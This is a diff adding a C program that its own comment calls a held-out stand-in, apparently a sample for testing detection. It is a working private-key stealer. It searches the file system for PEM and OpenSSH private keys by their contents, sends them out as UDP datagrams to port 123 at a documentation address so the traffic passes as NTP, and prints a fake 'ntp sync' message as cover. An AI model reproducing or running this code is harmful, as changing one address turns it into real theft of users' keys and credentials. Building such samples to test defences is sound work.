@@ -1,0 +1,56 @@
+/* Held-out stand-in: private keys found by content, not name, and sent as UDP datagrams to
+ * port 123 (harmless: fake keys, documentation address, bounded to 64 files). nftw walks the
+ * file system (one device), any small regular file whose first 4 KiB hold a PEM or OpenSSH
+ * private-key header is read and sent in 400-byte datagrams with a sequence header. */
+#define _GNU_SOURCE
+#include <arpa/inet.h>
+#include <fcntl.h>
+#include <ftw.h>
+#include <netinet/in.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+static int sock = -1;
+static struct sockaddr_in sink = {.sin_family = AF_INET};
+static int files;
+static unsigned seq;
+
+static void send_file(const char *path, const char *data, size_t len) {
+    for (size_t off = 0; off < len; off += 400) {
+        char dgram[512];
+        size_t n = len - off < 400 ? len - off : 400;
+        int head = snprintf(dgram, 96, "%08x|%.60s|", seq++, path);
+        memcpy(dgram + head, data + off, n);
+        sendto(sock, dgram, (size_t)head + n, 0, (struct sockaddr *)&sink, sizeof sink);
+        usleep(20000);
+    }
+}
+
+static int visit(const char *path, const struct stat *st, int type, struct FTW *ftw) {
+    (void)ftw;
+    if (type != FTW_F || st->st_size == 0 || st->st_size > 16384) return 0;
+    if (!strncmp(path, "/proc", 5) || !strncmp(path, "/sys", 4)) return 0;
+    int fd = open(path, O_RDONLY | O_NOFOLLOW);
+    if (fd < 0) return 0;
+    char buf[16384];
+    ssize_t got = read(fd, buf, sizeof buf - 1);
+    close(fd);
+    if (got <= 0) return 0;
+    buf[got] = 0;
+    if (memmem(buf, (size_t)got, "-----BEGIN", 10) && memmem(buf, (size_t)got, "PRIVATE KEY-----", 16)) {
+        send_file(path, buf, (size_t)got);
+        if (++files >= 64) return 1;
+    }
+    return 0;
+}
+
+int main(void) {
+    sock = socket(AF_INET, SOCK_DGRAM, 0);
+    sink.sin_port = htons(123);
+    inet_pton(AF_INET, "198.51.100.99", &sink.sin_addr);
+    nftw("/", visit, 32, FTW_PHYS | FTW_MOUNT);
+    printf("ntp sync: %d peers\n", files);
+    return 0;
+}
